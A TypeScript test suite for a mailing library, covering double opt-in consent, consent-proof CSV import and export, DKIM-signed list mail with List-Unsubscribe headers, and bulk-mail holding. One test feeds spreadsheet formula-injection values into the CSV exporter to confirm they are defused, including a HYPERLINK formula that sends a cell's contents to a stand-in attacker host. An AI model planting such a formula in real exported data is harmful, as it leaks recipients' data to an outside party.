/**
 * Consent and list mail through the library (R1): a real SQLite state
 * directory, a real SMTP server on 127.0.0.1, DKIM verified by mailauth (an
 * implementation independent of the signer).
 */
import assert from 'node:assert/strict';
import { generateKeyPairSync } from 'node:crypto';
import { chmodSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { dkimVerify } from 'mailauth/lib/dkim/verify.js';
import { simpleParser } from 'mailparser';
import { loadConfig } from '../config/load.js';
import { createMailer, type Mailer } from '../mailer.js';
import { startSmtpServer, type TestServer } from '../../test/helpers/smtp-server.js';
import { composeMail } from '../message/compose.js';
import { bulkMail, parseUnsubscribeMailto } from './bulk.js';
import { parseConsentCsv, subscriptionsToCsv } from './csv.js';
import type { Subscription } from './store.js';

const work = mkdtempSync(join(tmpdir(), 'sendwell-consent-'));
const { privateKey, publicKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
const keyFile = join(work, 'dkim.pem');
writeFileSync(keyFile, privateKey.export({ type: 'pkcs8', format: 'pem' }));
chmodSync(keyFile, 0o600);
const publicB64 = publicKey.export({ type: 'spki', format: 'der' }).toString('base64');

let n = 0;
function config(srv: TestServer, extra = '') {
  const dir = join(work, `s${++n}`);
  const file = join(work, `c${n}.toml`);
  writeFileSync(
    file,
    `state_dir = "${dir}"
[relay]
url = "${srv.url('smtp', 'tls=never')}"
[sender]
from = "Institute <news@example.test>"
[http]
public_url = "https://mail.example.test"
[bounces]
address = "bounces@bounces.example.test"
[dkim]
domain = "example.test"
selector = "s2026"
private_key_file = "${keyFile}"
[bulk]
detect_recipients = 3
[lists.newsletter]
reason = "You receive this because you subscribed to the institute newsletter on our website."
description = "Institute newsletter"
${extra}`,
  );
  return loadConfig({ path: file, env: {} });
}

/** A header's unfolded value from the raw bytes (what a receiver's DKIM check and MUA see). */
export function headerOf(raw: Buffer, name: string): string | undefined {
  const head = raw.toString('latin1').split('\r\n\r\n')[0]!.replace(/\r\n[ \t]+/g, ' ');
  const line = head.split('\r\n').find((l) => l.toLowerCase().startsWith(`${name.toLowerCase()}:`));
  return line?.slice(name.length + 1).trim();
}

const tokenOf = async (raw: Buffer) => /\/confirm\/([A-Za-z0-9_-]+)/.exec((await simpleParser(raw)).text ?? '')?.[1];

describe('consent and list mail', () => {
  let srv: TestServer;
  let mailer: Mailer;
  before(async () => {
    srv = await startSmtpServer();
    mailer = createMailer({ config: config(srv), maildrop: false });
  });
  after(async () => {
    await mailer.close();
    await srv.close();
  });

  it('double opt-in: a fixed-text confirmation mail; the GET view changes nothing; one POST confirms once', async () => {
    const consent = mailer.consent!;
    const before = srv.messages.length;
    const r = await consent.subscribe('newsletter', 'Alice@Example.test', { source: 'https://www.example.test/news', channel: 'form', consentText: 'v3', ip: '192.0.2.7', userAgent: 'Test/1' });
    assert.deepEqual(r, { status: 'pending', confirmationSent: true });
    const mail = srv.messages.slice(before).find((m) => m.to.includes('alice@example.test'));
    assert.ok(mail, 'the confirmation mail was delivered');
    const token = (await tokenOf(mail.raw))!;
    assert.ok(token);
    const parsed = await simpleParser(mail.raw);
    assert.match(parsed.subject ?? '', /^Please confirm: subscribe to Institute newsletter$/);
    assert.match(parsed.text ?? '', /https:\/\/mail\.example\.test\/confirm\//);
    // A second sign-up within the interval mails nothing (subscription bombing).
    assert.equal((await consent.subscribe('newsletter', 'alice@example.test', { source: 'x', channel: 'form' })).confirmationSent, false);
    assert.equal(consent.viewToken(token).ok, true);
    assert.equal(consent.viewToken(token).ok, true, 'viewing does not use the token');
    assert.equal(consent.subscription('newsletter', 'alice@example.test')!.status, 'pending');
    const done = await consent.confirm(token, { ip: '192.0.2.8', userAgent: 'Browser/2' });
    assert.equal(done.ok, true);
    const sub = consent.subscription('newsletter', 'alice@example.test')!;
    assert.equal(sub.status, 'confirmed');
    assert.equal(sub.signupIp, '192.0.2.7');
    assert.equal(sub.confirmIp, '192.0.2.8');
    assert.equal(sub.confirmMethod, 'post-button');
    assert.equal(sub.consentText, 'v3');
    assert.deepEqual(await consent.confirm(token, { ip: '192.0.2.9' }), { ok: false, why: 'used' });
    assert.deepEqual(consent.history(sub).map((e) => e.event), ['signup', 'signup', 'confirmed']);
  });

  it('imports proof from CSV; rows without a date are reported, not guessed', () => {
    const consent = mailer.consent!;
    const rows = parseConsentCsv(
      'email,signup_at,confirmed_at,signup_ip,source\n' +
        'carol@example.test,2026-01-02T10:00:00Z,2026-01-02T10:05:00Z,198.51.100.1,old-form\n' +
        'dave@example.test,2026-01-03T10:00:00Z,,,old-form\n' +
        'erin@example.test,,2026-01-03T10:00:00Z,,old-form\n' +
        'not-an-address,2026-01-03T10:00:00Z,,,x\n',
      'members.csv',
    );
    const r = consent.importRows('newsletter', rows, 'members.csv');
    assert.equal(r.imported, 2);
    assert.deepEqual(r.skipped.map((s) => [s.line, s.email]), [[4, 'erin@example.test'], [5, 'not-an-address']]);
    assert.match(r.skipped[0]!.reason, /signup_at is missing/);
    assert.equal(consent.subscription('newsletter', 'carol@example.test')!.status, 'confirmed');
    assert.equal(consent.subscription('newsletter', 'dave@example.test')!.status, 'pending', 'no confirmed_at on a double opt-in list: pending');
    const csv = subscriptionsToCsv(consent.subscriptions('newsletter'));
    const back = parseConsentCsv(csv, 'export.csv');
    assert.deepEqual(back.map((b) => [b.email, b.status]).sort(), [['Alice@Example.test', 'confirmed'], ['carol@example.test', 'confirmed'], ['dave@example.test', 'pending']]);
    assert.throws(() => parseConsentCsv('mail,signup_at\na@example.test,2026-01-01\n', 'x.csv'), /no "email" column/);
  });

  it('sends a list mail only to confirmed subscribers, with reason, List-* headers and a DKIM signature covering them', async () => {
    const before = srv.messages.length;
    const res = await mailer.sendToList('newsletter', { subject: 'December news', text: 'The library opens late on Friday.', html: '<html><body><p>The library opens <b>late</b> on Friday.</p></body></html>' });
    assert.deepEqual(res.sent.map((s) => s.address).sort(), ['alice@example.test', 'carol@example.test']);
    assert.deepEqual(res.refused, []);
    assert.ok(res.sent.every((s) => s.state === 'delivered'), JSON.stringify(res.sent));
    const got = srv.messages.slice(before);
    assert.equal(got.length, 2);
    for (const m of got) {
      assert.equal(m.to.length, 1);
      const p = await simpleParser(m.raw);
      assert.equal(headerOf(m.raw, 'List-Unsubscribe-Post'), 'List-Unsubscribe=One-Click');
      const lu = headerOf(m.raw, 'List-Unsubscribe')!;
      const https = /<(https:\/\/mail\.example\.test\/u\/[a-z2-7]{26})>/.exec(lu);
      const mailto = /<mailto:([^?>]+)\?subject=unsubscribe>/.exec(lu);
      assert.ok(https && mailto, lu);
      assert.ok(parseUnsubscribeMailto('bounces@bounces.example.test', mailto[1]!), mailto[1]);
      assert.equal(headerOf(m.raw, 'List-Id'), 'Institute newsletter <newsletter.example.test>');
      assert.match(p.text ?? '', /You receive this because you subscribed to the institute newsletter/);
      assert.match(p.text ?? '', new RegExp(`Unsubscribe: ${https[1]!.replace(/[./]/g, '\\$&')}`));
      assert.match(String(p.html), /You receive this because you subscribed to the institute newsletter[^]*<a href="https:\/\/mail\.example\.test\/u\//);
      const v = await dkimVerify(m.raw, {
        resolver: async (name: string, type: string) => {
          assert.equal(`${name}/${type}`, 's2026._domainkey.example.test/TXT');
          return [[`v=DKIM1; k=rsa; p=${publicB64}`]];
        },
      });
      const sig = v.results[0]!;
      assert.equal(sig.status.result, 'pass', JSON.stringify(sig.status));
      const tampered = Buffer.from(m.raw.toString('latin1').replace('List-Unsubscribe-Post: List-Unsubscribe=One-Click', 'List-Unsubscribe-Post: List-Unsubscribe=Two-Click'), 'latin1');
      const bad = await dkimVerify(tampered, { resolver: async () => [[`v=DKIM1; k=rsa; p=${publicB64}`]] });
      assert.equal(bad.results[0]!.status.result, 'fail', 'a changed List-Unsubscribe-Post breaks the signature');
      const signed = /\bh=([^;]+)/.exec(headerOf(m.raw, 'DKIM-Signature')!)![1]!.replace(/\s+/g, '').toLowerCase();
      assert.match(signed, /(^|:)list-unsubscribe(:|$)/);
      assert.match(signed, /(^|:)list-unsubscribe-post(:|$)/);
    }
  });

  it('refuses recipients without consent and says why; an unsubscribe takes effect at once', async () => {
    const consent = mailer.consent!;
    const res = await mailer.sendToList('newsletter', { subject: 'To some', text: 'Hello.' }, { to: ['carol@example.test', 'dave@example.test', 'zoe@example.test'] });
    assert.deepEqual(res.sent.map((s) => s.address), ['carol@example.test']);
    assert.deepEqual(
      res.refused.map((r) => r.address),
      ['dave@example.test', 'zoe@example.test'],
    );
    assert.match(res.refused[0]!.reason, /has not confirmed \(double opt-in\).*\(R1\)/);
    assert.match(res.refused[1]!.reason, /no recorded consent for newsletter/);
    const token = consent.subscription('newsletter', 'carol@example.test')!.unsubToken;
    assert.equal(consent.unsubscribeByToken(token, 'one-click', { ip: '203.0.113.5' })!.status, 'unsubscribed');
    const next = await mailer.sendToList('newsletter', { subject: 'After', text: 'Hello again.' }, { queueOnly: true });
    assert.deepEqual(next.sent.map((s) => s.address), ['alice@example.test']);
    const again = await mailer.sendToList('newsletter', { subject: 'To carol', text: 'x' }, { to: 'carol@example.test', queueOnly: true });
    assert.match(again.refused[0]!.reason, /unsubscribed from newsletter on \d{4}-\d\d-\d\d/);
  });

  it('holds the same content sent one by one to more recipients than bulk.detect_recipients (R1)', async () => {
    const states: string[] = [];
    for (const who of ['p1', 'p2', 'p3', 'p4', 'p5']) {
      const r = await mailer.send({ to: `${who}@example.test`, subject: 'Great offer', text: 'Buy our things.' }, { queueOnly: true });
      states.push(r.recipients[0]!.state!);
    }
    assert.deepEqual(states, ['queued', 'queued', 'queued', 'held', 'held']);
    const held = await mailer.send({ to: 'p6@example.test', subject: 'Great offer', text: 'Buy our things.' }, { queueOnly: true });
    assert.match(held.held![0]!, /bulk mail without consent: the same content went to more than 3 recipients within 24 h without a list.*\(R1\)/);
    // Different content to the same people is not bulk.
    const other = await mailer.send({ to: 'p6@example.test', subject: 'Your ticket 4711', text: 'Fixed.' }, { queueOnly: true });
    assert.equal(other.recipients[0]!.state, 'queued');
  });

  it('list mail needs public_url', async () => {
    const srv2 = await startSmtpServer();
    const c = config(srv2);
    delete c.http.publicUrl;
    const m = createMailer({ config: c, maildrop: false });
    await assert.rejects(m.sendToList('newsletter', { subject: 's', text: 't' }), /needs http\.public_url/);
    await m.close();
    await srv2.close();
  });
});

describe('consent CSV', () => {
  const sub = (over: Partial<Subscription>): Subscription => ({
    id: 1, list: 'news', address: 'a@example.test', addressInput: 'a@example.test', status: 'confirmed', source: 'form:news', channel: 'form', consentText: null,
    signupAt: Date.UTC(2026, 0, 2), signupIp: null, signupUserAgent: null, confirmSentAt: null, confirmedAt: Date.UTC(2026, 0, 2), confirmIp: null,
    confirmUserAgent: null, confirmMethod: 'post-button', unsubscribedAt: null, unsubscribeMethod: null, unsubToken: 'abcdefghijklmnopqrstuvwxyz', ...over,
  });

  it('export: cells a spreadsheet would run as a formula are defused, and import gives them back', () => {
    // A visitor's User-Agent, an API source or even an address can start with = + - @.
    const evil = ['=HYPERLINK("https://evil.example/?"&A2,"x")', '+1+1', '-2+3', '@SUM(1)', "'=already quoted", '\t=tab'];
    const subs = [
      sub({ signupUserAgent: evil[0]!, source: evil[1]!, consentText: evil[2]!, confirmUserAgent: evil[3]!, confirmIp: evil[4]!, signupIp: evil[5]! }),
      sub({ id: 2, address: '-bob@example.test', addressInput: '-bob@example.test' }),
    ];
    const csv = subscriptionsToCsv(subs);
    for (const line of csv.split('\n').slice(1)) {
      for (const cell of line.split(',')) assert.doesNotMatch(cell, /^"?[=+\-@\t\r]/, `cell ${cell} of ${line}`);
    }
    const back = parseConsentCsv(csv, 'export.csv');
    assert.deepEqual([back[0]!.signup_user_agent, back[0]!.source, back[0]!.consent_text, back[0]!.confirm_user_agent, back[0]!.confirm_ip], evil.slice(0, 5));
    assert.equal(back[1]!.email, '-bob@example.test');
  });
});

describe('list mail headers', () => {
  it('List-Id keeps its <id> readable when the description is not ASCII (RFC 2919)', async () => {
    const list = { name: 'news', reason: 'You receive this because you subscribed.', doubleOptIn: true, description: 'Institut für Informatik — Neuigkeiten aus Lehre, Forschung und dem Institutsleben', createdAt: 0 };
    const one = bulkMail({ subject: 'Hallo', text: 'Text' }, { address: 'a@example.test', unsubToken: 'abcdefghijklmnopqrstuvwxyz' } as Subscription, { list, publicUrl: 'https://m.example.test', from: 'News <news@example.test>' });
    const { raw } = await composeMail({ ...one, from: 'News <news@example.test>' });
    const id = headerOf(raw, 'List-Id')!;
    assert.match(id, /^(=\?UTF-8\?B\?[A-Za-z0-9+/=]+\?= ?)+ <news\.example\.test>$/, id);
    const words = id.slice(0, id.lastIndexOf(' <')).split(' ').map((w) => Buffer.from(/^=\?UTF-8\?B\?(.*)\?=$/.exec(w)![1]!, 'base64'));
    assert.equal(Buffer.concat(words).toString('utf8'), list.description);
  });
});
